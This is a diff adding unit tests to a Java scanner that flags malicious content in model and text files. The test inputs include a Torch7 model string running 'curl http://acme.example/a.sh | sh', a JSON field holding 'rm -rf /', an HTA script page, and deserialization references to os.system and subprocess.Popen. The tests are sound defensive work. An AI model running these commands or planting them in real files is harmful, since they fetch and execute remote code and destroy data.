@@ -45,6 +45,20 @@ class TextFormatTest {
     }
 
     @Test
+    void aModelOfTorch7ThatIsTextIsSearchedForCommands() {
+        String model = "4\n1\n3\nV 1\n13\nnn.Sequential\ncmd = os.execute('curl http://acme.example/a.sh | sh')\n";
+
+        assertThat(scan("model.t7", bytes(model)).verdict()).isEqualTo(Verdict.MALICIOUS);
+        assertThat(scan("notes.txt", bytes(model)).verdict()).isEqualTo(Verdict.CLEAN);
+    }
+
+    @Test
+    void anApplicationThatIsAPageIsSuspicious() {
+        assertThat(rules(scan("setup.hta", bytes("<html><script>run()</script></html>"))))
+                .containsExactly("text.source-code");
+    }
+
+    @Test
     void aTemplateFarIntoALongTextIsFound() {
         String text = " ".repeat(200_000) + "é{{ x.__globals__ }}";
 
@@ -92,7 +106,8 @@ class TextFormatTest {
                 "{'_target_': 'os.system'} | text.denied-reference",
                 "{'py/object': 'subprocess.Popen'} | text.denied-reference",
                 "{'__class__': 'system', '__module__': 'os', '__loader__': 'TypeNode'} | text.denied-reference",
-                "{'__class__': 'A', '__module__': 'acme', '__loader__': 'ObjectNode'} | text.unknown-reference"
+                "{'__class__': 'A', '__module__': 'acme', '__loader__': 'ObjectNode'} | text.unknown-reference",
+                "{'debug_command': 'rm -rf /'} | text.command"
             })
     void jsonThatReachesCodeIsFound(String json, String rule) {
         assertThat(rules(scan("schema.json", bytes(json.replace('\'', '"'))))).containsExactly(rule);
